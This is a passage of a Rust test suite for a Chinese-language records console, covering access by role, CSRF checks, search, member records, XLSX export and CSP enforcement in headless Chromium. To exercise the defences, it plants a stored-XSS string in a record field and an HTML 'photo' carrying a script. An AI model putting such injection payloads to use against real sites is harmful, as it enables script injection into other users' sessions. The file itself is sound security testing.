    let css = h.get("/console/style.css", None).await;
    assert!(
        css.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/css")
    );
    check(
        "a wrong password",
        h.call(form(
            "/console/login",
            "account=office-01&password=wrong-pass".into(),
            None,
        ))
        .await,
        StatusCode::UNAUTHORIZED,
    );
    check(
        "an empty sign-in",
        h.call(form("/console/login", String::new(), None)).await,
        StatusCode::BAD_REQUEST,
    );
    check(
        "a POST to a page",
        h.call(form("/console/dashboard", String::new(), None))
            .await,
        StatusCode::METHOD_NOT_ALLOWED,
    );
    // Signed in.
    for (path, cookie, status) in [
        (
            "/console/dashboard?q=2025-2".to_string(),
            &staff,
            StatusCode::OK,
        ),
        (
            "/console/dashboard?q=nonsense".to_string(),
            &staff,
            StatusCode::BAD_REQUEST,
        ),
        (
            "/console/records?kind=visit".to_string(),
            &staff,
            StatusCode::OK,
        ),
        (format!("/console/records/{id}"), &staff, StatusCode::OK),
        (
            "/console/records/no-such-record".to_string(),
            &staff,
            StatusCode::NOT_FOUND,
        ),
        (
            format!("/console/records/{other_id}"),
            &leader,
            StatusCode::FORBIDDEN,
        ),
        (
            format!("/console/records/{id}/photos/{}/thumb", p.hash),
            &staff,
            StatusCode::OK,
        ),
        (
            format!("/console/records/{id}/photos/{}", p.hash),
            &leader,
            StatusCode::OK,
        ),
        (
            format!("/console/records/{id}/photos/{}", "0".repeat(64)),
            &staff,
            StatusCode::NOT_FOUND,
        ),
        (
            format!("/console/records/{id}/photos/not-a-hash"),
            &staff,
            StatusCode::NOT_FOUND,
        ),
        ("/console/export".to_string(), &leader, StatusCode::OK),
        (
            "/console/export/file?from=2025-01-01&to=2025-12-31&format=csv".to_string(),
            &leader,
            StatusCode::OK,
        ),
        (
            "/console/export/file?from=2025-12-31&to=2025-01-01".to_string(),
            &staff,
            StatusCode::BAD_REQUEST,
        ),
    ] {
        check(&path, console_get(&h, &path, cookie).await, status);
    }
    check(
        "a resolve without its token",
        h.call(form(
            &format!("/console/records/{id}/resolve"),
            "field=title".into(),
            Some(&staff),
        ))
        .await,
        StatusCode::FORBIDDEN,
    );
    check(
        "a resolve with nothing to resolve",
        h.call(form(
            &format!("/console/records/{id}/resolve"),
            format!("csrf={csrf}&field=title"),
            Some(&staff),
        ))
        .await,
        StatusCode::BAD_REQUEST,
    );
    check(
        "sign-out",
        h.call(form(
            "/console/logout",
            format!("csrf={csrf}"),
            Some(&staff),
        ))
        .await,
        StatusCode::SEE_OTHER,
    );
    seen.sort_unstable();
    seen.dedup();
    assert_eq!(
        seen,
        vec![200, 303, 400, 401, 403, 404, 405],
        "every kind of answer was checked"
    );
}

#[test]
fn issue10_chromium_fails_on_csp_violations_and_never_renders_a_text_html_photo() {
    let tmp = tempfile::tempdir().unwrap();
    // A visit whose "photo" is an HTML page with a script, claimed to be text/html.
    let html = b"<!doctype html><title>x</title><script>document.title = 'ran'</script>".to_vec();
    let hash = sanjin_media::hash(&html);
    let visit = {
        let mut data = ServerData::open(tmp.path()).unwrap();
        data.add_staff(STAFF, "王秘书", Role::Staff).unwrap();
        sanjin_server::console::set_password(&mut data, STAFF, STAFF_PASSWORD).unwrap();
        let doc = photos::visit_with_raw_photos(
            "group-01",
            "member-0001",
            &[(
                hash.clone(),
                json!({"hash": hash, "mime": "text/html", "caption": "网页"}),
                None,
            )],
        );
        let id = doc.id().to_string();
        data.import_docs(&mut [doc]).unwrap();
        data.import_blob(&html, Some("group-01")).unwrap();
        id
    };
    let (rt, running, base) = common::console::serve_folder(tmp.path());
    let downloads = tempfile::tempdir().unwrap();
    let mut c = Chromium::start(downloads.path());
    c.goto(&format!("{base}/console/login"));
    c.wait("document.getElementById('signin')");
    // The served stylesheet applies (no inline style is needed or allowed).
    assert_eq!(
        c.eval("getComputedStyle(document.querySelector('header')).backgroundColor"),
        json!("rgb(163, 25, 31)")
    );
    // Signing in works under the policy (and `Referrer-Policy: no-referrer`).
    c.eval(&format!(
        "document.getElementById('account').value = '{STAFF}'; document.getElementById('password').value = '{STAFF_PASSWORD}'; document.getElementById('signin').click(); true"
    ));
    c.wait("location.pathname === '/console/dashboard' && document.getElementById('stats')");
    c.assert_no_csp_violations("on the sign-in and dashboard pages");
    // The text/html "original", opened from the record page, is a download: the browser never
    // renders it, its script never runs on the console's origin.
    c.goto(&format!("{base}/console/records/{visit}"));
    c.wait("document.querySelector('#photos a.original')");
    let before = c.eval("location.pathname + ' ' + document.title");
    c.eval("document.querySelector('#photos a.original').click(); true");
    let started = Instant::now();
    let file = loop {
        let done: Vec<PathBuf> = std::fs::read_dir(downloads.path())
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "bin"))
            .collect();
        if let Some(f) = done.first() {
            break f.clone();
        }
        assert!(started.elapsed() < Duration::from_secs(30), "no download");
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(std::fs::read(&file).unwrap(), html);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        c.eval("location.pathname + ' ' + document.title"),
        before,
        "still on the record page; nothing rendered"
    );
    assert!(
        before
            .as_str()
            .unwrap()
            .starts_with(&format!("/console/records/{visit} "))
    );
    c.assert_no_csp_violations("on the record page");
    // What a page that broke the policy would do is caught: an inline style, a foreign image,
    // a script's request, an inline script.
    c.eval(
        "document.body.insertAdjacentHTML('beforeend', '<div id=\"x\" style=\"color:red\">x</div><img src=\"https://example.invalid/x.png\">'); true",
    );
    assert_eq!(
        c.eval("fetch('/console/dashboard').then(() => 'fetched', () => 'refused')"),
        json!("refused")
    );
    c.eval("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.appendChild(s); true");
    assert_eq!(
        c.eval("window.ran === undefined"),
        json!(true),
        "no inline script runs"
    );
    let v = c.take_violations();
    for directive in ["style-src", "img-src", "connect-src", "script-src"] {
        assert!(
            v.iter().any(|x| x.contains(directive)),
            "a {directive} violation is reported: {v:#?}"
        );
    }
    drop(c);
    rt.block_on(running.shutdown()).unwrap();
}

// ------------------------------------------------------------------ issue 13: search

/// The records list's search box in Chromium: words within the group filter, every visit a
/// recount of the fixtures finds (plus the conflicted visit, found by either of its titles),
/// the words marked in the titles and snippets, the box and the filters kept.
#[test]
fn issue13_console_search_box_in_headless_chromium() {
    let (tmp, visit, group, _leader) = data_folder();
    let fx = common::fixtures();
    let mut expected: std::collections::BTreeSet<String> = fx
        .visits
        .iter()
        .filter(|r| matches!(&r.data, sanjin_core::RecordData::Visit(v) if v.group == group && (v.title.contains("垃圾") || v.summary.contains("垃圾"))))
        .map(|r| r.id.clone())
        .collect();
    expected.insert(visit.clone());
    let (rt, running, base) = common::console::serve_folder(tmp.path());
    let downloads = tempfile::tempdir().unwrap();
    let mut c = Chromium::start(downloads.path());
    c.goto(&format!("{base}/console/login"));
    c.eval(&format!(
        "document.getElementById('account').value = '{STAFF}'; document.getElementById('password').value = '{STAFF_PASSWORD}'; document.getElementById('signin').click(); true"
    ));
    c.wait("location.pathname === '/console/dashboard'");

    c.goto(&format!("{base}/console/records?kind=visit"));
    c.eval(&format!(
        "document.getElementById('f-q').value = '垃圾'; document.getElementById('f-group').value = '{group}'; document.getElementById('f-submit').click(); true"
    ));
    c.wait("location.search.includes('q=') && document.getElementById('search-note')");
    assert_eq!(
        c.eval("document.getElementById('total').innerText"),
        json!(format!("共 {} 条", expected.len()))
    );
    let found: std::collections::BTreeSet<String> = serde_json::from_value(c.eval(
        "Array.from(document.querySelectorAll('#records td.snippet a')).map(a => decodeURIComponent(a.getAttribute('href').split('/').pop()))",
    ))
    .unwrap();
    assert_eq!(found, expected);
    // Every row shows the word marked (title or snippet), and nothing else is marked.
    let marks: Vec<String> = serde_json::from_value(
        c.eval("Array.from(document.querySelectorAll('#records mark')).map(m => m.innerText)"),
    )
    .unwrap();
    assert!(marks.len() >= expected.len(), "{marks:?}");
    assert!(marks.iter().all(|m| m == "垃圾"), "{marks:?}");
    assert_eq!(
        c.eval("Array.from(document.querySelectorAll('#records td.snippet')).every(td => td.querySelector('mark'))"),
        json!(true)
    );
    // The box keeps the words; the filters stay as chosen.
    assert_eq!(
        c.eval("document.getElementById('f-q').value"),
        json!("垃圾")
    );
    assert_eq!(
        c.eval("document.getElementById('f-group').value"),
        json!(group)
    );
    c.screenshot(&PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("console-search.png"));
    c.assert_no_csp_violations("on the search results");
    drop(c);
    rt.block_on(running.shutdown()).unwrap();
}

/// The search's role rules through the router: a leader's search covers the group's records
/// only and another group is refused; a search without words, or a hostile one, is a Chinese
/// page, and whatever the records say is escaped.
#[tokio::test]
async fn issue13_console_search_by_role_and_escaped() {
    let (tmp, _visit, group, leader) = data_folder();
    {
        // An opinion note of another group whose text looks like markup.
        let fx = common::fixtures();
        let mut r = fx
            .opinions
            .iter()
            .find(|r| matches!(&r.data, sanjin_core::RecordData::Opinion(o) if o.group != group))
            .unwrap()
            .clone();
        r.id = "note-markup".into();
        r.events.clear();
        let sanjin_core::RecordData::Opinion(o) = &mut r.data else {
            unreachable!()
        };
        o.text = "居民反映<script>alert(1)</script>石桥&食堂".into();
        let mut data = ServerData::open(tmp.path()).unwrap();
        data.import_records(&[r]).unwrap();
    }
    let app = app(AppState::new(ServerData::open(tmp.path()).unwrap()));
    let staff = sign_in(&app, STAFF, STAFF_PASSWORD).await.unwrap();
    let lead = sign_in(&app, &leader, LEADER_PASSWORD).await.unwrap();
    let q = "%E5%85%BB%E8%80%81"; // 养老
    let bridge = "%E7%9F%B3%E6%A1%A5"; // 石桥

    // Staff find the note, its text escaped, the word marked.
    let (s, _, body) = send(
        &app,
        get(&format!("/console/records?kind=opinion&q={bridge}"), &staff),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert!(body.contains("共 1 条"), "staff find every group's notes");
    assert!(body.contains("note-markup"));
    assert!(body.contains("&lt;script&gt;alert(1)&lt;/script&gt;<mark>石桥</mark>&amp;食堂"));
    assert!(!body.contains("<script>"));

    // The leader's search stays in the group.
    let (s, _, body) = send(
        &app,
        get(&format!("/console/records?kind=opinion&q={bridge}"), &lead),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        body.contains("共 0 条"),
        "another group's note is not found"
    );
    assert!(!body.contains("note-markup"));
    let (s, _, body) = send(
        &app,
        get(&format!("/console/records?kind=opinion&q={q}"), &lead),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        body.contains("<mark>养老</mark>"),
        "the group's notes are found"
    );
    let (s, _, body) = send(
        &app,
        get(
            &format!("/console/records?kind=opinion&q={q}&group=group-02"),
            &lead,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    assert!(body.contains("组长只能查看本组"), "{body}");

    // Nothing to search for: a page saying what to do.
    let (s, _, body) = send(
        &app,
        get("/console/records?kind=visit&q=%EF%BC%8C%21", &staff),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(body.contains("请换一个词"), "{body}");
}

/// Issue 13: the member's yearly record (履职档案) through the router: staff see any member, a
/// leader the group's members, a leader of another group is refused with a Chinese page; the
/// page is printable (the stylesheet's print rules hide the header's navigation).
#[tokio::test]
async fn issue13_member_record_page_by_role() {
    let (tmp, _visit, group, leader) = data_folder();
    let fx = common::fixtures();
    // The member of the group with the most visits in 2025, other than the leader.
    let mut counts: HashMap<&str, usize> = HashMap::new();
    for r in &fx.visits {
        if let sanjin_core::RecordData::Visit(v) = &r.data
            && v.group == group
            && v.start.date().to_string().starts_with("2025")
        {
            for m in &v.participants {
                *counts.entry(m.as_str()).or_default() += 1;
            }
        }
    }
    let (member, visits) = counts
        .into_iter()
        .filter(|(m, _)| *m != leader)
        .max_by_key(|(m, n)| (*n, *m))
        .unwrap();
    let member = member.to_string();
    let name = fx
        .directory
        .iter()
        .find(|r| r.id == member)
        .and_then(|r| match &r.data {
            sanjin_core::RecordData::Member(m) => Some(m.name.clone()),
            _ => None,
        })
        .unwrap();
    let other = fx.leader_of("group-02").unwrap().to_string();
    assert_ne!(group, "group-02");
    {
        let mut data = ServerData::open(tmp.path()).unwrap();
        sanjin_server::console::set_password(&mut data, &other, "leader-pass-02").unwrap();
    }
    let app = app(AppState::new(ServerData::open(tmp.path()).unwrap()));
    let staff = sign_in(&app, STAFF, STAFF_PASSWORD).await.unwrap();
    let lead = sign_in(&app, &leader, LEADER_PASSWORD).await.unwrap();
    let stranger = sign_in(&app, &other, "leader-pass-02").await.unwrap();
    let path = format!("/console/members/{member}?year=2025");

    for who in [&staff, &lead] {
        let (s, h, body) = send(&app, get(&path, who)).await;
        assert_eq!(s, StatusCode::OK, "{body}");
        assert_security_headers(
            &path,
            &axum::http::HeaderMap::from_iter(h.iter().map(|(k, v)| {
                (
                    axum::http::HeaderName::from_bytes(k.as_bytes()).unwrap(),
                    axum::http::HeaderValue::from_str(v).unwrap(),
                )
            })),
        );
        assert!(
            body.contains(&format!("{name} 2025 年度履职档案")),
            "{body}"
        );
        assert!(body.contains("id=\"activities\""));
        assert!(body.contains("年度统计"));
        assert_eq!(
            body.matches("<tr>").count() - body.matches("<thead>").count(),
            body.matches("href=\"/console/records/").count(),
            "one row per record, each linked"
        );
        let activity_rows = body
            .split("id=\"activities\"")
            .nth(1)
            .unwrap()
            .split("</table>")
            .next()
            .unwrap()
            .matches("<tr>")
            .count()
            - 1;
        assert_eq!(activity_rows, visits, "every visit of the member's year");
        assert!(
            body.contains(&format!("<b>{visits}</b>参加活动（次）")),
            "{body}"
        );
    }

    // A leader of another group is refused, in Chinese.
    let (s, _, body) = send(&app, get(&path, &stranger)).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    assert!(body.contains("组长只能查看本组"), "{body}");
    assert!(!body.contains("年度履职档案"));

    // A bad year or an unknown member: a page saying what to do.
    let (s, _, body) = send(
        &app,
        get(&format!("/console/members/{member}?year=abc"), &staff),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(body.contains("年份"), "{body}");
    let (s, _, body) = send(&app, get("/console/members/member-9999?year=2025", &staff)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(body.contains("没有编号为 member-9999 的委员"), "{body}");

    // Not signed in: the sign-in page, not the record.
    let (s, _, body) = send(&app, get(&path, "sanjin_console=nothing")).await;
    assert_ne!(s, StatusCode::OK);
    assert!(!body.contains("年度履职档案"));

    // The records list links each member author's name to their record of the record's year.
    let (s, _, body) = send(
        &app,
        get(
            &format!("/console/records?kind=visit&group={group}"),
            &staff,
        ),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        body.contains("href=\"/console/members/member-") && body.contains("?year=20"),
        "{body}"
    );

    // Printed, the header's navigation is hidden.
    let (s, _, css) = send(&app, get("/console/style.css", &staff)).await;
    assert_eq!(s, StatusCode::OK);
    let print = css.split("@media print{").nth(1).expect("print rules");
    assert!(print.starts_with("header,"), "{print}");
}

/// Issue 13: the year's assessment table (履职考核表) through the router: staff see every
/// member, a leader the group's, each name linked to the member's record; the XLSX download
/// reads back with one row per member shown.
#[tokio::test]
async fn issue13_assessment_table_and_xlsx_by_role() {
    use calamine::Reader;

    let (tmp, _visit, group, leader) = data_folder();
    let fx = common::fixtures();
    let members: Vec<(&str, &str)> = fx
        .directory
        .iter()
        .filter_map(|r| match &r.data {
            sanjin_core::RecordData::Member(m) => Some((r.id.as_str(), m.group.as_str())),
            _ => None,
        })
        .collect();
    let in_group = members.iter().filter(|(_, g)| *g == group).count();
    let app = app(AppState::new(ServerData::open(tmp.path()).unwrap()));
    let staff = sign_in(&app, STAFF, STAFF_PASSWORD).await.unwrap();
    let lead = sign_in(&app, &leader, LEADER_PASSWORD).await.unwrap();
    let rows = |body: &str| {
        body.split("id=\"assessment\"")
            .nth(1)
            .unwrap()
            .split("</table>")
            .next()
            .unwrap()
            .matches("href=\"/console/members/")
            .count()
    };
    for (who, expected) in [(&staff, members.len()), (&lead, in_group)] {
        let (s, _, body) = send(&app, get("/console/assessment?year=2025", who)).await;
        assert_eq!(s, StatusCode::OK, "{body}");
        assert!(body.contains("2025 年度委员履职考核"));
        assert_eq!(rows(&body), expected, "one linked row per member in scope");
        assert!(body.contains(&format!("共 {expected} 位委员")));

        let (s, h, bytes) = send(&app, get("/console/assessment/file?year=2025", who)).await;
        assert_eq!(s, StatusCode::OK);
        assert!(h["content-disposition"].starts_with("attachment;"));
        assert!(h["content-type"].contains("spreadsheetml"));
        // `send` reads the body as text; read it again as bytes for calamine.
        let res = app
            .clone()
            .oneshot(get("/console/assessment/file?year=2025", who))
            .await
            .unwrap();
        let raw = axum::body::to_bytes(res.into_body(), usize::MAX)
            .await
            .unwrap();
        assert!(bytes.starts_with("PK"));
        let mut book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(raw.to_vec())).unwrap();
        let range = book.worksheet_range("2025年度履职考核").unwrap();
        assert_eq!(
            range.rows().count(),
            expected + 1,
            "the header and the members"
        );
    }
    let (s, _, body) = send(&app, get("/console/assessment?year=abc", &staff)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(body.contains("年份"), "{body}");
}
